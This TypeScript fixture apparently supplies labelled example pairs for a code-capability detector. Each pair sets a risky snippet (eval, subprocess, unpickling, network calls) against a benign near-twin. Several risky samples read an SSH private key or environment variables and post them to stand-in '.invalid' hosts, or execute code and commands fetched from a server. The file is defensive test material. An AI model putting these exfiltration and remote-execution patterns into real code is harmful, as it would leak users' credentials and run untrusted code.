import { js, py } from './code-text'
import { type PackExamples, pair } from './draft'

const mention = js(
  'The words stand in a comment and in a text.',
  "// eval('1 + 1') would run code\nexport const help = 'Never use eval or child_process.exec.'",
)

/** Sources in the languages that have an engine; hosts end in .invalid, and nothing is ever run. */
export const codeCapabilities: PackExamples = {
  'code.capability-eval': pair(
    js(
      'A text is run as code. That alone is no more than worth knowing.',
      "const sum = eval('1 + 1')\nconsole.log(sum)",
    ),
    mention,
  ),
  'code.capability-process': pair(
    py(
      'A program is started, always the same.',
      "import subprocess\n\nsubprocess.run(['git', 'rev-parse', 'HEAD'])",
    ),
    py(
      'The module is imported for a type only.',
      'import subprocess\n\ndef show(error: subprocess.CalledProcessError):\n    print(error)',
    ),
  ),
  'code.capability-network': pair(
    js(
      'A server is asked.',
      "const answer = await fetch('https://models.invalid/index.json')\nconsole.log(answer.status)",
    ),
    js(
      'An address is put together, and nobody is asked.',
      "const url = new URL('index.json', 'https://models.invalid/')\nconsole.log(url.href)",
    ),
  ),
  'code.capability-file-write': pair(
    py('A file is written.', "with open('log.txt', 'w') as log:\n    log.write('done')"),
    py('A file is read.', "with open('log.txt') as log:\n    print(len(log.read()))"),
  ),
  'code.capability-module': pair(
    js(
      'The name of the module is computed.',
      'export function plugin(name) {\n  return require("./plugins/" + name)\n}',
      'index.cjs',
    ),
    js(
      'The name of the module stands in the source.',
      "const path = require('node:path')\nconsole.log(path.sep)",
      'index.cjs',
    ),
  ),
  'code.capability-native': pair(
    py(
      'A native library is loaded.',
      "import ctypes\n\nlib = ctypes.CDLL('libm.so.6')\nprint(lib.abs(-1))",
    ),
    py('Only a type of the module is used.', 'import ctypes\n\nprint(ctypes.sizeof(ctypes.c_int))'),
  ),
  'code.capability-deserialise': pair(
    py(
      'A file is unpickled, which runs what the file says.',
      "import torch\n\nmodel = torch.load('model.pt', weights_only=False)",
    ),
    py(
      'Only tensors are taken out of the file.',
      "import torch\n\nweights = torch.load('model.pt', weights_only=True)",
    ),
  ),
  'code.environment-to-eval': pair(
    py(
      'Whoever sets the variable chooses the code.',
      "import os\n\nexec(os.environ['STARTUP_CODE'])",
    ),
    py(
      'A variable is compared.',
      "import os\n\nif os.environ.get('MODE') == 'quiet':\n    print('')",
    ),
  ),
  'code.environment-to-network': pair(
    js(
      'Every variable of the environment is sent to a server.',
      "const body = JSON.stringify(process.env)\nfetch('https://collect.invalid/', { method: 'POST', body })",
    ),
    js(
      'The port comes from the environment, and nothing is sent.',
      "const port = Number(process.env.PORT ?? 8080)\nconsole.log('listening on', port)",
    ),
  ),
  'code.credentials-to-process': pair(
    js(
      'A private key becomes a part of a command.',
      "const fs = require('fs')\nconst { execSync } = require('child_process')\nconst key = fs.readFileSync(process.env.HOME + '/.ssh/id_rsa', 'utf8')\nexecSync('logger ' + key)",
      'index.cjs',
    ),
    js(
      'A file of the project is counted.',
      "const { execSync } = require('child_process')\nexecSync('wc -l README.md')",
      'index.cjs',
    ),
  ),
  'code.credentials-to-network': pair(
    py(
      'A private key is sent to a server.',
      "import os, requests\n\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://collect.invalid', data=key)",
    ),
    py(
      'A file of the project is sent.',
      "import requests\n\nreport = open('report.json').read()\nrequests.post('https://reports.invalid', data=report)",
    ),
  ),
  'code.credentials-to-file-write': pair(
    js(
      'A private key is copied to a place where others look.',
      "const fs = require('fs')\nconst key = fs.readFileSync(process.env.HOME + '/.ssh/id_rsa')\nfs.writeFileSync('/tmp/out.txt', key)",
      'index.cjs',
    ),
    js(
      'A file of the project is copied.',
      "const fs = require('fs')\nfs.writeFileSync('copy.md', fs.readFileSync('README.md'))",
      'index.cjs',
    ),
  ),
  'code.host-to-network': pair(
    js(
      'The names of the machine and its user are sent to a server.',
      "const os = require('os')\nconst https = require('https')\nhttps.get('https://collect.invalid/?h=' + os.hostname() + '&u=' + os.userInfo().username)",
      'index.cjs',
    ),
    js(
      'The number of processors is printed.',
      "const os = require('os')\nconsole.log(os.cpus().length)",
      'index.cjs',
    ),
  ),
  'code.network-to-eval': pair(
    py(
      'What a server answers is run.',
      "import requests\n\nexec(requests.get('https://code.invalid/next').text)",
    ),
    py(
      'What a server answers is read as data.',
      "import requests\n\nprint(requests.get('https://data.invalid/list').json())",
    ),
  ),
  'code.network-to-process': pair(
    py(
      'What a server answers is a command.',
      "import os, urllib.request\n\ncommand = urllib.request.urlopen('https://code.invalid/next').read().decode()\nos.system(command)",
    ),
    py(
      'What a server answers is counted.',
      "import urllib.request\n\nprint(len(urllib.request.urlopen('https://data.invalid/list').read()))",
    ),
  ),
  'code.network-to-module': pair(
    js(
      'A server names the module that is loaded.',
      "const answer = await fetch('https://code.invalid/name')\nawait import(await answer.text())",
    ),
    js(
      'A server answers, and a known module is loaded.',
      "const answer = await fetch('https://data.invalid/list')\nconst { parse } = await import('./parse.js')\nparse(await answer.text())",
    ),
  ),
  'code.network-to-native': pair(
    py(
      'What a server answers is the path of a library.',
      "import ctypes, requests\n\nctypes.CDLL(requests.get('https://code.invalid/path').text)",
    ),
    py('A library of the system is loaded.', "import ctypes\n\nctypes.CDLL('libm.so.6')"),
  ),
  'code.network-to-deserialise': pair(
    py(
      'What a server answers is unpickled.',
      "import pickle, requests\n\nmodel = pickle.loads(requests.get('https://models.invalid/model').content)",
    ),
    py(
      'What a server answers is JSON.',
      "import json, requests\n\nmodel = json.loads(requests.get('https://models.invalid/model').content)",
    ),
  ),
}
